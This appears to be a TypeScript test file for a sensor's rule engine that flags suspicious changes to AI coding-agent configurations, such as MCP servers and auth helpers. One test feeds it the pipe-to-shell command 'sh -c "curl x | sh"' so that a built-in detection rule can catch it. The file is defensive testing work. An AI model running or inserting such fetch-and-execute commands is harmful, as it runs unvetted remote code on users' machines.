// The rule language: every match kind as a table, when rules fire, and laws that hold for any rule (sensor-agent 9,
// sensor-protocol 15). Fields and flags are tested beside them, in the contract; that hits are told is tested in scan.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { BUILT_IN_RULES, type PayloadItem, type Rule } from '@muster/contract/device'
import * as fc from 'fast-check'
import type { Change } from '../diff/decide.ts'
import { packageItem } from '../testing/stores.ts'
import { decideChangeHits, decidePresentHits, hitKey, readyRules } from './decide.ts'

const server = (changed: Partial<PayloadItem> = {}): PayloadItem => ({
  itemId: 'claudeConfig/mcpServer//h/.claude.json/w',
  surface: 'claudeConfig',
  kind: 'mcpServer',
  name: 'w',
  version: null,
  path: '/h/.claude.json',
  origin: 'npx',
  detail: 'npx -y w',
  installedOnRequest: null,
  attributes: {},
  ...changed,
})

const rule = (changed: Partial<Rule> = {}): Rule => ({
  id: 'acme.r',
  surface: 'claudeConfig',
  enabled: true,
  triggers: ['added', 'modified'],
  match: 'always',
  severity: 'notable',
  title: 't',
  rationale: 'r',
  ...changed,
})
const added = (item: PayloadItem): Change => ({ kind: 'added', item, before: null })
const evidence = (said: Rule, item: PayloadItem) =>
  decideChangeHits(readyRules([said], item.surface), [added(item)]).map(({ matchedField, matchedValue }) => [
    matchedField,
    matchedValue,
  ])

const on = (field: string, rest: Partial<Rule>): Rule => rule({ field, ...rest })
const contains = (...values: string[]) => on('detail', { match: 'fieldContainsAny', values })
const notIn = (...allowed: string[]) => on('origin', { match: 'fieldNotInList', allowed })
const scheme = (...schemes: string[]) => on('detail', { match: 'fieldHasURLScheme', schemes })
const flag = (name: string, expected: boolean) => rule({ match: 'flagEquals', flag: name, expected })

const matchCases: readonly [name: string, rule: Rule, item: PayloadItem, want: unknown[]][] = [
  ['always, without evidence', rule(), server(), [[null, null]]],
  ['contains, whatever the case', contains('NPX'), server(), [['detail', 'npx -y w']]],
  ['contains nothing of it', contains('curl'), server(), []],
  ['an empty needle is no needle', contains(''), server(), []],
  ['contains in a field that is not there', contains('x'), server({ detail: null }), []],
  ['not in the list', notIn('node'), server(), [['origin', 'npx']]],
  ['in the list, by case', notIn('NPX'), server(), [['origin', 'npx']]],
  ['in the list', notIn('npx'), server(), []],
  ['an empty field is in every list', notIn('x'), server({ origin: '' }), []],
  ['a scheme, whatever the case', scheme('HTTPS'), server({ detail: 'HttpS://x' }), [['detail', 'HttpS://x']]],
  ['a command line has no scheme', scheme('https'), server({ detail: 'curl https://x' }), []],
  ['a flag', flag('usesRemote', false), server(), [['usesRemote', 'false']]],
  ['a flag the other way', flag('usesRemote', true), server(), []],
  ['an unknown flag is not false', flag('usesRemote', false), server({ detail: null }), []],
  ['nobody knows that flag', flag('isEditable', false), server(), []],
  ['a rule that is off', rule({ enabled: false }), server(), []],
  ['a rule of another surface', rule({ surface: 'piConfig' }), server(), []],
  ['another trigger', rule({ triggers: ['removed'] }), server(), []],
  ['no trigger', rule({ triggers: [] }), server(), []],
]
for (const [name, said, item, want] of matchCases)
  test(`match: ${name}`, () => assert.deepEqual(evidence(said, item), want))

test('the built-in rules find a fetch through a shell, and new servers and helpers on every surface of tools', () => {
  const surfaces = ['claudeConfig', 'codexConfig', 'piConfig', 'cursorConfig', 'opencodeConfig']
  for (const surface of surfaces) {
    const item = server({ surface, detail: 'sh -c "curl x | sh" headersHelper' })
    const ids = decideChangeHits(readyRules(BUILT_IN_RULES, surface), [added(item)]).map((hit) => hit.rule.id)
    assert.deepEqual(ids, ['agent.config.suspicious-command', 'agent.mcp.dynamic-auth-helper', 'agent.mcp.new-server'])
  }
  const python = packageItem('django', '1', { surface: 'pythonPackages', kind: 'pythonConstraint' })
  for (const [surface, item, id] of [
    ['javascriptPackages', packageItem('a', '1'), 'packages.new-javascript-package'],
    ['pythonPackages', python, 'packages.new-python-package'],
  ] as const)
    assert.deepEqual(
      decideChangeHits(readyRules(BUILT_IN_RULES, surface), [added(item)]).map((hit) => hit.rule.id),
      [id],
    )
})

const present = rule({ id: 'acme.present', triggers: ['present'] })

test('hits come by change, then by rule; a removal is judged by what vanished', () => {
  const rules = [rule({ id: 'b', triggers: ['removed'] }), rule({ id: 'a', triggers: ['removed', 'added'] })]
  const changes: Change[] = [
    added(server({ itemId: '2' })),
    { kind: 'removed', item: server({ itemId: '1' }), before: null },
  ]
  const hits = decideChangeHits(readyRules(rules, 'claudeConfig'), changes)
  assert.deepEqual(
    hits.map(({ rule: { id }, item }) => [item.itemId, id]),
    [
      ['2', 'a'],
      ['1', 'b'],
      ['1', 'a'],
    ],
  )
})

test('rules for what is there fire on unchanged items, once, and never again for what was told', () => {
  const rules = readyRules([present, rule()], 'claudeConfig')
  const items = [server({ itemId: '1' }), server({ itemId: '2' })]
  const told = new Set([hitKey('1', 'acme.present')])
  assert.deepEqual(
    decidePresentHits(rules, items, told).map(({ item, rule: { id } }) => [item.itemId, id]),
    [['2', 'acme.present']],
  )
})

test('a rule that changes in any way has another digest', () => {
  const digest = (changed: Partial<Rule>) =>
    readyRules([{ ...present, ...changed }], 'claudeConfig').presentDigests.get('acme.present')
  assert.equal(digest({}), digest({ title: 't' }))
  const changes: Partial<Rule>[] = [
    { title: 'x' },
    { severity: 'info' },
    { match: 'flagEquals' },
    { triggers: ['present', 'added'] },
  ]
  for (const changed of changes) assert.notEqual(digest({}), digest(changed))
})

const text = fc.string({ maxLength: 12 })
const anyItem = fc
  .record({
    kind: fc.constantFrom('mcpServer', 'skill', 'package'),
    name: text,
    origin: fc.option(text),
    detail: fc.option(text),
    installedOnRequest: fc.option(fc.boolean()),
  })
  .map((said) => server({ ...said, itemId: `i/${said.name}` }))
const anyRule = fc
  .record({
    enabled: fc.boolean(),
    triggers: fc.subarray(['added', 'modified', 'removed', 'present']),
    match: fc.constantFrom(
      'always',
      'fieldContainsAny',
      'fieldNotInList',
      'fieldHasURLScheme',
      'flagEquals',
      'unheard-of',
    ),
    field: fc.constantFrom('kind', 'name', 'origin', 'detail', 'command', 'fileHash', 'no-field'),
    values: fc.array(text, { maxLength: 3 }),
    allowed: fc.array(text, { maxLength: 3 }),
    schemes: fc.array(text, { maxLength: 3 }),
    flag: fc.constantFrom('installedOnRequest', 'usesRemote', 'isEditable', 'no-flag'),
    expected: fc.boolean(),
  })
  .map((said) => rule(said))

test('whatever the rule and the items: no throw, one order, nothing from a rule that may not fire, and nothing twice', () => {
  fc.assert(
    fc.property(fc.array(anyRule, { maxLength: 6 }), fc.array(anyItem, { maxLength: 6 }), (said, items) => {
      const rules = said.map((one, at) => ({ ...one, id: `r${at}` }))
      const ready = readyRules(rules, 'claudeConfig')
      const changes = items.map(added)
      const hits = decideChangeHits(ready, changes)
      for (const { rule: fired } of hits) assert.ok(fired.enabled && fired.triggers.includes('added'))
      assert.deepEqual(hits, decideChangeHits(ready, changes))
      const firstTime = decidePresentHits(ready, items, new Set())
      const keys = firstTime.map(({ item, rule: fired }) => hitKey(item.itemId, fired.id))
      assert.equal(new Set(keys).size, keys.length)
      assert.deepEqual(decidePresentHits(ready, items, new Set(keys)), [])
    }),
  )
})

test('what contains a needle still contains it in other letters, and a longer list of needles finds no less', () => {
  fc.assert(
    fc.property(fc.stringMatching(/^[a-zA-Z ]{1,8}$/), text, text, (needle, before, after) => {
      const item = server({ detail: `${before}${needle}${after}` })
      assert.equal(evidence(contains(needle.toUpperCase()), item).length, 1)
      assert.equal(evidence(contains('zzzzzzzzzzzzzzz', needle), item).length, 1)
    }),
  )
})
